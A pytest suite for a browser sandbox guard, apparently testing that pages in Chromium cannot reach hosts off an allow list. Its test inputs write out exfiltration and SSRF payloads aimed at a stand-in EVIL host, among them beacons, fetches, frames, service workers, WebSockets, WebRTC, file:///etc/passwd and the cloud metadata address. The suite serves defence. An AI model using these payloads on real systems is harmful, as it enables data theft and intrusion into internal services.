"""Every way past the judge that a page has, tried in a real Chromium: refused, recorded, and nothing else left.

Three things are looked at after each attack: what the session was told, what the guard let through, and what the
kernel counted in the browser's own network, where every connection must have been one to the guard.
"""

import asyncio
import contextlib
import json
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
import pytest_asyncio

from fakes.eventually import eventually
from fakes.page_harness import EVIL, OTHER, REBOUND, SHOP, NotAllowed, PageHarness, page_harness
from palyra.browser.domain.action import ActionOutcome, Back, Navigate, OpenTab, ResetState
from palyra.browser.domain.page_errors import BadAddress, DocumentGone, NavigationFailed, SchemeRefused
from palyra.browser.tabs import session_tabs
from palyra.errors import PalyraError

pytestmark = [pytest.mark.asyncio(loop_scope="module"), pytest.mark.promise("P-browser-hosts")]

REFUSED = NotAllowed.code
METADATA = "169.254.169.254"
# From the documentation ranges: in a namespace without a route nothing can be sent there, and that is the point.
NOBODY = "192.0.2.1"


def counted(harness: PageHarness, protocol: str) -> dict[str, int]:
    """What the kernel counted in the browser's network."""
    lines = Path(f"/proc/{harness.process.pid}/net/snmp").read_text().splitlines()
    names, values = (line.split()[1:] for line in lines if line.startswith(f"{protocol}:"))
    return dict(zip(names, map(int, values), strict=True))


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def browser(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[PageHarness]:
    async with page_harness(tmp_path_factory.mktemp("bypasses")) as harness:
        await harness.open()
        yield harness


@pytest_asyncio.fixture(loop_scope="module")
async def harness(browser: PageHarness) -> AsyncIterator[PageHarness]:
    """A fresh session each time; after each test nothing but the allowed hosts was reached by anything."""
    browser.judge.hosts = {SHOP, OTHER, "localhost"}
    await browser.pages.perform(ResetState())
    browser.site.asked.clear()
    browser.mark = browser.pages.refused
    yield browser
    assert [each for each in browser.site.asked if each.startswith(EVIL)] == []
    assert browser.guarded.reached() <= {SHOP, OTHER, "localhost", f"first.{REBOUND}"}
    interfaces = Path(f"/proc/{browser.process.pid}/net/dev").read_text().splitlines()[2:]
    assert [line.split(":")[0].strip() for line in interfaces] == ["lo"]
    opened = len(browser.guarded.recorder.connected()) + len(browser.guarded.recorder.refusals())
    # Over one connection the guard may dial anew for a second request, and then tells of both.
    assert counted(browser, "Tcp")["ActiveOpens"] <= opened
    assert counted(browser, "Udp")["OutDatagrams"] == 0


def refused(outcome: ActionOutcome, path: str = "") -> bool:
    return any(EVIL in line and path in line and line.endswith(REFUSED) for line in outcome.refused)


async def run(harness: PageHarness, script: str) -> ActionOutcome:
    """A script of the page's, and everything it set going."""
    return await harness.run(f"(async () => {{ {script} }})()".replace("EVIL", f"http://{EVIL}:{harness.site.port}"))


async def move(harness: PageHarness, script: str) -> None:
    """A script that may take its own page away."""
    with contextlib.suppress(DocumentGone):
        await run(harness, script)


async def later(harness: PageHarness, path: str) -> None:
    """What is refused a moment after the script ended."""
    await eventually(lambda: any(path in each.url for each in harness.pages.refusals(harness.mark)))


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
async def test_a_redirect_elsewhere_is_refused(harness: PageHarness, status: int) -> None:
    harness.site.pages["/away"] = (status, {"Location": f"http://{EVIL}:PORT/caught"}, "")
    harness.site.pages["/hop"] = (status, {"Location": f"http://{OTHER}:PORT/away"}, "")
    for path in ("/away", "/hop"):
        with pytest.raises(NotAllowed):
            await harness.go(path)
    await harness.go("/")
    outcome = await run(harness, "await fetch('/away', {mode: 'no-cors'}).catch(() => 0)")
    assert refused(outcome, "/caught")


@pytest.mark.parametrize(
    "markup",
    [
        "<meta http-equiv=refresh content='0;url=http://EVIL:PORT/caught'>",
        "<script>location = 'http://EVIL:PORT/caught'</script>",
        "<body onload='document.forms[0].submit()'><form method=post action='http://EVIL:PORT/caught'></form>",
        "<script>navigation.navigate('http://EVIL:PORT/caught')</script>",
    ],
    ids=["refresh", "location", "form", "navigation"],
)
async def test_a_page_cannot_take_its_tab_elsewhere(harness: PageHarness, markup: str) -> None:
    harness.site.pages["/mover"] = markup.replace("EVIL", EVIL)
    try:
        await harness.go("/mover")
    except NotAllowed:
        return
    await later(harness, "/caught")


@pytest.mark.parametrize(
    "script",
    [
        "open('EVIL/caught')",
        "open('EVIL/caught', '', 'noopener')",
        "const w = open('about:blank'); w.location = 'EVIL/caught'",
        "const w = open('/'); w.onload = () => { w.location.href = 'EVIL/caught' }",
        "document.body.innerHTML = `<a target=_blank href='EVIL/caught'>x</a>`; document.querySelector('a').click()",
        """document.body.innerHTML = `<form target=_blank method=post action='EVIL/caught'></form>`;
           document.forms[0].submit()""",
    ],
    ids=["open", "noopener", "blank", "later", "link", "form"],
)
async def test_a_popup_elsewhere_is_refused(harness: PageHarness, script: str) -> None:
    await harness.go()
    await run(harness, script)
    await later(harness, "/caught")
    # The tab that it opened shows that it failed, and nothing of the other site.
    assert all("caught" not in tab.title for tab in harness.pages.tabs())


@pytest.mark.parametrize(
    "markup",
    [
        "<iframe src='http://EVIL:PORT/caught'></iframe>",
        "<iframe srcdoc='<iframe src=http://EVIL:PORT/caught></iframe>'></iframe>",
        "<iframe src=\"data:text/html,<iframe src='http://EVIL:PORT/caught'></iframe>\"></iframe>",
        "<object data='http://EVIL:PORT/caught' type='text/html'></object>",
        "<embed src='http://EVIL:PORT/caught' type='text/html'>",
        "<iframe src='/away'></iframe>",
        "<iframe src='http://OTHER:PORT/nested'></iframe>",
        "<iframe sandbox src='http://EVIL:PORT/caught'></iframe>",
    ],
    ids=["frame", "srcdoc", "data", "object", "embed", "redirect", "nested", "sandbox"],
)
async def test_a_frame_elsewhere_is_refused(harness: PageHarness, markup: str) -> None:
    harness.site.pages["/away"] = (302, {"Location": f"http://{EVIL}:PORT/caught"}, "")
    harness.site.pages["/nested"] = f"<iframe src='http://{EVIL}:PORT/caught'></iframe>"
    harness.site.pages["/framed"] = markup.replace("EVIL", EVIL).replace("OTHER", OTHER)
    await harness.go("/framed")
    await later(harness, "/caught")


SUBRESOURCES = {
    "image": "new Image().src = 'EVIL/caught'",
    "script": "const s = document.createElement('script'); s.src = 'EVIL/caught'; document.body.append(s)",
    "style": "document.head.innerHTML = `<style>@import 'EVIL/caught'</style>`",
    "background": "document.body.style.background = 'url(EVIL/caught)'",
    "font": "new FontFace('f', 'url(EVIL/caught)').load().catch(() => 0)",
    "video": "const v = document.createElement('video'); v.src = 'EVIL/caught'; document.body.append(v); v.load()",
    "fetch": "await fetch('EVIL/caught', {mode: 'no-cors'}).catch(() => 0)",
    "keepalive": "fetch('EVIL/caught', {mode: 'no-cors', keepalive: true}).catch(() => 0)",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', 'EVIL/caught'); x.send()",
    "beacon": "navigator.sendBeacon('EVIL/caught', 'all of it')",
    "events": "new EventSource('EVIL/caught')",
    "import": "await import('EVIL/caught').catch(() => 0)",
    "worker": "new Worker(URL.createObjectURL(new Blob([\"fetch('EVIL/caught').catch(() => 0)\"])))",
    "worker import": "new Worker(URL.createObjectURL(new Blob([\"importScripts('EVIL/caught')\"])))",
    "shared worker": "new SharedWorker(URL.createObjectURL(new Blob([\"fetch('EVIL/caught').catch(() => 0)\"])))",
    "prefetch": "document.head.innerHTML = `<link rel=prefetch href='EVIL/caught'>`",
    "preload": "document.head.innerHTML = `<link rel=preload as=image href='EVIL/caught'>`",
    "module preload": "document.head.innerHTML = `<link rel=modulepreload href='EVIL/caught'>`",
    "style link": "document.head.innerHTML = `<link rel=stylesheet href='EVIL/caught'>`",
    "svg": "document.body.innerHTML = '<svg><image href=\"EVIL/caught\"/></svg>'",
    "track": "document.body.innerHTML = '<audio controls src=\"EVIL/caught\"></audio>'",
}


@pytest.mark.parametrize("kind", SUBRESOURCES)
async def test_nothing_is_loaded_from_elsewhere(harness: PageHarness, kind: str) -> None:
    await harness.go()
    await run(harness, SUBRESOURCES[kind])
    await later(harness, "/caught")


async def test_a_service_workers_own_requests_are_judged(harness: PageHarness) -> None:
    evil = f"http://{EVIL}:PORT"
    harness.site.pages["/sw.js"] = f"""
        fetch('{evil}/at-start', {{mode: 'no-cors'}}).catch(() => 0);
        self.addEventListener('install', (event) => event.waitUntil(
            fetch('{evil}/at-install', {{mode: 'no-cors'}}).catch(() => 0).then(() => self.skipWaiting())));
        self.addEventListener('activate', (event) => event.waitUntil(clients.claim()));
        self.addEventListener('fetch', (event) => {{
            if (event.request.url.includes('through'))
                event.respondWith(fetch('{evil}/behalf', {{mode: 'no-cors'}}).catch(() => new Response('no')));
        }});
        self.addEventListener('message', (event) => event.source.navigate('{evil}/driven').catch(() => 0));"""
    harness.site.pages["/evil.js"] = f"importScripts('{evil}/imported')"
    # A service worker needs a trustworthy origin, which this name is.
    await harness.go("/", "localhost")
    registered = await run(
        harness,
        """await navigator.serviceWorker.register('/sw.js'); await navigator.serviceWorker.ready;
        await navigator.serviceWorker.register('/evil.js', {scope: '/evil/'}).catch(() => 0);
        while (!navigator.serviceWorker.controller)
            await new Promise((go) => navigator.serviceWorker.addEventListener('controllerchange', go, {once: true}));
        const reply = await fetch('/through'); return await reply.text()""",
    )
    assert json.loads(registered.value_json) == "no"
    for path in ("/at-start", "/at-install", "/behalf", "/imported"):
        await later(harness, path)
    await run(harness, "navigator.serviceWorker.controller.postMessage('go')")
    await later(harness, "/driven")


async def test_a_page_from_a_worker_of_the_site_is_judged_when_it_is_shown(harness: PageHarness) -> None:
    """A worker that answers navigations itself sends no request that could be held: the document is judged anyway."""
    harness.site.pages["/own.js"] = """
        self.addEventListener('install', (event) => event.waitUntil(self.skipWaiting()));
        self.addEventListener('activate', (event) => event.waitUntil(clients.claim()));
        self.addEventListener('fetch', (event) => event.respondWith(
            new Response('<title>made up</title>', {headers: {'Content-Type': 'text/html'}})))"""
    await harness.go("/", "localhost")
    await run(harness, "await navigator.serviceWorker.register('/own.js'); await navigator.serviceWorker.ready")
    harness.judge.judged.clear()
    assert (await harness.go("/made-up", "localhost")).title == "made up"
    # When it was asked for, and when it was shown.
    await eventually(lambda: harness.judge.judged.count(harness.site.url("/made-up", "localhost")) == 2)
    harness.judge.hosts.discard("localhost")
    # It may take the script's document away before the script has answered.
    with contextlib.suppress(DocumentGone):
        await run(harness, "location = '/made-up-again'")
    await later(harness, "/made-up-again")
    await eventually(lambda: harness.pages.tabs()[0].url in ("about:blank", harness.site.url("/made-up", "localhost")))


async def test_sockets_elsewhere_end_at_the_guard(harness: PageHarness) -> None:
    await harness.go()
    outcome = await run(
        harness,
        """return await Promise.all(['EVIL', 'http://127.0.0.1:9', 'http://169.254.169.254'].map((each) =>
            new Promise((done) => {
                const socket = new WebSocket(each.replace('http', 'ws') + '/caught');
                socket.onopen = () => done('open'); socket.onerror = () => done('no');
            })))""",
    )
    assert json.loads(outcome.value_json) == ["no"] * 3
    assert refused(outcome, "/caught")
    assert [entry.text for entry in harness.pages.network_log() if entry.kind == "websocket"][-3:] == [REFUSED] * 3
    assert EVIL in {each.refusal.host for each in harness.guarded.recorder.refusals()}


async def test_speculation_ends_at_the_guard(harness: PageHarness) -> None:
    """Chromium does not hold these requests for anybody: only the guard stands there."""
    await harness.go("/", "localhost")
    before = len(harness.guarded.recorder.refusals())
    # To other sites Chromium speculates over TLS only; this is the same site, at a port that has no rule.
    elsewhere = "http://localhost:8123/fetched"
    rules = {
        "prefetch": [{"source": "list", "urls": ["EVIL/fetched", elsewhere], "eagerness": "immediate"}],
        "prerender": [{"source": "list", "urls": ["EVIL/rendered", elsewhere], "eagerness": "immediate"}],
    }
    await run(
        harness,
        f"""const s = document.createElement('script'); s.type = 'speculationrules';
        s.textContent = '{json.dumps(rules)}'; document.head.append(s);
        for (const rel of ['preconnect', 'dns-prefetch']) {{
            const l = document.createElement('link'); l.rel = rel; l.href = 'EVIL'; document.head.append(l) }}""",
    )
    await eventually(lambda: len(harness.guarded.recorder.refusals()) > before)
    assert {each.refusal.port for each in harness.guarded.recorder.refusals()[before:]} <= {8123, harness.site.port}
    # What it may fetch is fetched, and told of.
    await run(
        harness,
        """const s = document.createElement('script'); s.type = 'speculationrules';
        s.textContent = '{"prefetch": [{"source": "list", "urls": ["/ahead"], "eagerness": "immediate"}]}';
        document.head.append(s)""",
    )
    await eventually(lambda: "localhost/ahead" in harness.site.asked)


async def test_peers_and_transports_send_no_datagram(harness: PageHarness) -> None:
    await harness.go("/", "localhost")
    outcome = await run(
        harness,
        f"""const peer = new RTCPeerConnection({{iceServers: [{{urls: ['stun:{EVIL}:3478', 'stun:{NOBODY}:3478']}}]}});
        const found = [];
        const gathered = new Promise((done) => {{
            peer.onicecandidate = (event) => event.candidate ? found.push(event.candidate.candidate) : done();
            setTimeout(done, 500);
        }});
        peer.createDataChannel('x');
        await peer.setLocalDescription(await peer.createOffer());
        await gathered;
        let transport = 'none';
        if (globalThis.WebTransport)
            transport = await new WebTransport('https://{EVIL}:8443/').ready.then(() => 'open', () => 'no');
        return [found, transport]""",
    )
    candidates, transport = json.loads(outcome.value_json)
    assert [each for each in candidates if " udp " in each.lower()] == []
    assert transport in ("none", "no")


SCHEMES = (
    "file:///etc/passwd",
    "FiLe:///etc/passwd",
    "chrome://version/",
    "chrome://crash/",
    "chrome-untrusted://x/",
    "devtools://devtools/bundled/inspector.html",
    f"view-source:http://{SHOP}/",
    "javascript:fetch('/x')",
    "data:text/html,<script>fetch('/x')</script>",
    f"blob:http://{SHOP}/1",
    f"filesystem:http://{SHOP}/temporary/x",
    "about:version",
    "ftp://shop.test/",
    "ws://shop.test/",
)


@pytest.mark.parametrize("url", SCHEMES)
async def test_no_tab_goes_to_another_scheme(harness: PageHarness, url: str, monkeypatch: pytest.MonkeyPatch) -> None:
    shown: list[str] = []
    judge = session_tabs.shows_forbidden

    def noted(address: str) -> bool:
        shown.append(address)
        return judge(address)

    monkeypatch.setattr(session_tabs, "shows_forbidden", noted)
    await harness.go()
    for action in (Navigate(url=url), OpenTab(url=url)):
        with pytest.raises(SchemeRefused):
            await harness.pages.perform(action)
    assert [tab.title for tab in harness.pages.tabs()] == ["Shop"]
    # A page cannot do it either.
    for script in (f"location = {url!r}", f"open({url!r})", f"open({url!r}, '', 'noopener')"):
        await move(harness, script)
    # A tab that is being opened names the address that it is refused, until Chromium hears of it; it never shows it.
    harmless = ("http://shop.test", "about:blank", "chrome-error:")
    await eventually(lambda: all(tab.url.startswith(harmless) or not tab.url for tab in harness.pages.all_tabs()))
    # Of an address like about:version a page gets an empty document, which is refused and left.
    refused_here = {each.url for each in harness.pages.refusals(harness.mark) if each.document}
    others = {each for each in shown if not each.startswith(harmless)}
    assert shown and others <= refused_here & {"about:version"}
    assert "root:" not in str([tab.title for tab in harness.pages.tabs()])


@pytest.mark.parametrize("url", [" http://shop.test/", "java\tscript:1", "http://shop.test\\@evil.test/", "shop.test"])
async def test_spellings_that_programs_read_differently_are_no_address(harness: PageHarness, url: str) -> None:
    with pytest.raises(BadAddress):
        await harness.pages.perform(Navigate(url=url))


async def test_a_page_of_ones_own_making_does_not_stay_in_a_tab(harness: PageHarness) -> None:
    await harness.go()
    await run(harness, "open(URL.createObjectURL(new Blob(['<title>mine</title>'], {type: 'text/html'})))")
    await later(harness, "blob:")
    await eventually(lambda: all(tab.url.startswith(("http", "about:blank")) for tab in harness.pages.tabs()))
    # Within a page it may be.
    outcome = await run(
        harness,
        """const f = document.createElement('iframe');
        f.src = URL.createObjectURL(new Blob(['x'], {type: 'text/html'}));
        document.body.append(f); await new Promise((go) => f.onload = go);
        return (await (await fetch('data:text/plain,ok')).text())""",
    )
    assert json.loads(outcome.value_json) == "ok" and outcome.refused == ()


ODD = (
    "http://127.1:PORT/",
    "http://0x7f000001:PORT/",
    "http://2130706433:PORT/",
    "http://0177.0.0.1:PORT/",
    "http://[::1]:PORT/",
    "http://[::ffff:127.0.0.1]:PORT/",
    "http://127.0.0.1:PORT/",
    f"http://{METADATA}/latest/meta-data/",
    "http://[fd00:ec2::254]/",
    f"http://{NOBODY}/",
    "http://0.0.0.0:PORT/",
    f"http://{SHOP}@{EVIL}:PORT/",
    f"http://{EVIL}:PORT#@{SHOP}/",
)


@pytest.mark.parametrize("url", ODD)
async def test_odd_addresses_are_refused_by_the_judge_and_without_it_by_the_guard(
    harness: PageHarness, url: str
) -> None:
    address = url.replace("PORT", str(harness.site.port))
    with pytest.raises(NotAllowed):
        await harness.pages.perform(Navigate(url=address))
    # A judge that lets everything pass: the guard has its own rules.
    harness.judge.hosts = {"*"}
    with pytest.raises((NavigationFailed, PalyraError)):
        await harness.pages.perform(Navigate(url=address))
    await harness.go()
    outcome = await run(harness, f"return await fetch({address!r}, {{mode: 'no-cors'}}).then(() => 'open', () => 'no')")
    assert json.loads(outcome.value_json) == "no"
    assert set(harness.site.asked) <= {f"{SHOP}/"}


@pytest.mark.parametrize(
    ("name", "answers", "reached"),
    [
        ("first", [("127.0.0.1",), (METADATA,)], True),
        ("never", [(METADATA,)], False),
        ("mixed", [("127.0.0.1", METADATA)], False),
        ("mapped", [("::ffff:169.254.169.254",)], False),
    ],
)
async def test_a_name_leads_only_where_it_was_judged_to_lead(
    harness: PageHarness, name: str, answers: list[tuple[str, ...]], reached: bool
) -> None:
    """The judge lets the name pass. Its addresses are the guard's matter, and what it judged is what it dials."""
    host = f"{name}.{REBOUND}"
    harness.judge.hosts.add(host)
    harness.guarded.resolver.table[host] = list(answers)
    harness.site.pages["/once"] = (200, {"Connection": "close"}, "<title>once</title>")
    if reached:
        assert (await harness.go("/once", host)).title == "once"
        await run(harness, "await fetch('/twice').catch(() => 0)")
    else:
        with pytest.raises(NavigationFailed):
            await harness.go("/once", host)
        assert harness.site.asked == []
    assert {event.address for event in harness.guarded.recorder.connected()} == {"127.0.0.1"}


async def test_the_blank_page_from_before_the_session_is_held_too(tmp_path: Path) -> None:
    """Chromium holds the requests of documents that came after it was told to: the first one is older."""
    async with page_harness(tmp_path) as harness:
        await harness.open()
        tried = f"fetch('{harness.site.url('/', EVIL)}', {{mode: 'no-cors'}}).then(() => 'open', () => 'no')"
        outcome = await harness.run(tried)
        assert json.loads(outcome.value_json) == "no" and refused(outcome)
        # It did not even get as far as the guard.
        assert harness.guarded.recorder.events == []


async def test_the_past_is_judged_again(harness: PageHarness) -> None:
    await harness.go("/", OTHER)
    await harness.go("/")
    harness.judge.hosts.discard(OTHER)
    with pytest.raises(NotAllowed):
        await harness.pages.perform(Back())
    # The page goes there by itself: kept whole, or loaded anew, it does not stay.
    await run(harness, "history.back()")
    await eventually(lambda: any(OTHER in each.url for each in harness.pages.refusals(harness.mark)[-1:]))
    await eventually(
        lambda: not harness.pages.tabs()[0].url.startswith(f"http://{OTHER}") or harness.pages.active_tab().unreachable
    )


async def test_a_judge_that_fails_has_not_allowed_anything(harness: PageHarness) -> None:
    await harness.go()

    async def broken(url: str) -> None:
        raise RuntimeError("no idea")

    def broken_too(url: str) -> None:
        raise RuntimeError("no idea")

    kept = harness.judge.judge_document, harness.judge.judge_request
    harness.judge.judge_document, harness.judge.judge_request = broken, broken_too  # type: ignore[method-assign]
    try:
        outcome = await run(
            harness,
            """document.body.innerHTML = '<iframe src="/x"></iframe>';
            return await fetch('/y').then(() => 'open', () => 'no')""",
        )
        assert json.loads(outcome.value_json) == "no"
        await later(harness, "/x")
    finally:
        harness.judge.judge_document, harness.judge.judge_request = kept  # type: ignore[method-assign]
    assert set(harness.site.asked) == {f"{SHOP}/"}


async def test_a_storm_of_popups_ends_at_the_limit_of_tabs(harness: PageHarness) -> None:
    most = harness.meter.budget.max_tabs_per_session
    await harness.go()
    await run(harness, f"for (let n = 0; n < {most} + 20; n++) open('/?' + n)")
    await eventually(lambda: len(harness.pages.tabs()) == most)
    await asyncio.sleep(0)
    assert len(harness.pages.tabs()) == most
    assert any(each.code == "browser.budget_spent" for each in harness.pages.refusals(harness.mark))
    await harness.pages.perform(ResetState())
    assert len(harness.pages.tabs()) == 1
